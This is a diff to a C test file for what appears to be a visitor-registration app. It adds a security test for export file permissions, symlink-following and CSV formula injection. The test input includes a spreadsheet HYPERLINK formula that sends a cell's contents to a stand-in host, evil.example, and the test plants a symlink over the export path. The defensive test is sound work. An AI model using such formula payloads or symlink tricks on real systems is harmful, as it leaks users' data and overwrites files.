@@ -3,7 +3,9 @@
 #include <glib/gstdio.h>
 #include <sqlite3.h>
 #include <string.h>
+#include <unistd.h>
 
+#include "fd-badge.h"
 #include "fd-error.h"
 #include "fd-i18n.h"
 #include "fd-model.h"
@@ -256,6 +258,7 @@ test_export_far_date (void)
   g_autofree char *err = NULL;
   gint64 start, end;
 
+  g_assert_nonnull (admin);  /* the account frontdeskctl logs in with */
   g_assert_false (fd_day_range ("9999-12-31", &start, &end));
   g_assert_true (fd_day_range ("9999-12-30", &start, &end));
   g_assert_cmpint (ctl (fd_store_get_path (store), "1357", &out, &err, "--user", "test-admin", "export", "--from",
@@ -555,6 +558,72 @@ test_reveal_and_mask (void)
   g_assert_cmpstr (plain, ==, "11010519491231002X");
 }
 
+static guint
+file_mode (const char *path)
+{
+  GStatBuf st;
+
+  g_assert_cmpint (g_lstat (path, &st), ==, 0);
+  return st.st_mode & 0777;
+}
+
+/* Finding 7: a company name that is a formula is exported inert (only the
+ * phone column keeps "+digits"); the database, its WAL, exports and badge
+ * PDFs are 0600 from the start; a symlink planted where the export writes
+ * is not followed. */
+static void
+test_exports_and_files (void)
+{
+  g_autoptr(FdStore) store = fd_test_store_new (TRUE);
+  g_autoptr(FdSession) admin = fd_test_login (store, FD_ROLE_ADMIN);
+  g_autoptr(FdRegistration) reg = fd_registration_new ();
+  g_autoptr(GError) error = NULL;
+  g_autofree char *dir = g_path_get_dirname (fd_store_get_path (store));
+  g_autofree char *wal = g_strconcat (fd_store_get_path (store), "-wal", NULL);
+  g_autofree char *csv = g_build_filename (dir, "visits.csv", NULL);
+  g_autofree char *xlsx = g_build_filename (dir, "visits.xlsx", NULL);
+  g_autofree char *victim = g_build_filename (dir, "victim.txt", NULL);
+  g_autofree char *planted = g_build_filename (dir, "visits.xlsx.part", NULL);
+  g_autofree char *pdf = g_build_filename (dir, "badge.pdf", NULL);
+  g_autofree char *text = NULL;
+  g_autofree char *today = fd_store_today (store);
+  g_autoptr(FdVisit) visit = NULL;
+  g_autoptr(FdBadge) badge = NULL;
+  gint64 id;
+
+  g_assert_cmpuint (file_mode (fd_store_get_path (store)), ==, 0600);
+  reg->name = g_strdup ("Eve");
+  reg->phone = g_strdup ("+49 151 12345678");
+  reg->company = g_strdup ("+1+HYPERLINK(\"http://evil.example/?\"&C2,\"x\")");
+  reg->purpose = g_strdup ("面试");
+  reg->host_id = fd_test_host_id (store, "王芳", NULL);
+  reg->visit_ms = fd_store_now_ms (store);
+  id = fd_store_add_visit (store, reg, &error);
+  g_assert_no_error (error);
+  g_assert_cmpuint (file_mode (wal), ==, 0600);
+
+  g_assert_true (fd_store_export (store, admin, today, today, FD_EXPORT_CSV, csv, NULL, &error));
+  g_assert_no_error (error);
+  g_assert_cmpuint (file_mode (csv), ==, 0600);
+  g_assert_true (g_file_get_contents (csv, &text, NULL, NULL));
+  g_assert_nonnull (strstr (text, "\"'+1+HYPERLINK("));
+  g_assert_nonnull (strstr (text, "\"+4915112345678\""));
+
+  g_assert_true (g_file_set_contents (victim, "keep", -1, NULL));
+  g_assert_cmpint (symlink (victim, planted), ==, 0);
+  g_assert_true (fd_store_export (store, admin, today, today, FD_EXPORT_XLSX, xlsx, NULL, &error));
+  g_assert_no_error (error);
+  g_assert_cmpuint (file_mode (xlsx), ==, 0600);
+  g_clear_pointer (&text, g_free);
+  g_assert_true (g_file_get_contents (victim, &text, NULL, NULL));
+  g_assert_cmpstr (text, ==, "keep");
+
+  visit = fd_store_get_visit (store, id, &error);
+  badge = fd_badge_new_for_visit (visit, "星河科技");
+  g_assert_true (fd_badge_write_pdf (badge, FD_BADGE_CR80, pdf, &error));
+  g_assert_cmpuint (file_mode (pdf), ==, 0600);
+}
+
 int
 main (int    argc,
       char **argv)
@@ -572,5 +641,6 @@ main (int    argc,
   g_test_add_func ("/trust/correct-and-search", test_correct_and_search);
   g_test_add_func ("/trust/key-file", test_key_file);
   g_test_add_func ("/trust/reveal-and-mask", test_reveal_and_mask);
+  g_test_add_func ("/trust/exports-and-files", test_exports_and_files);
   return g_test_run ();
 }
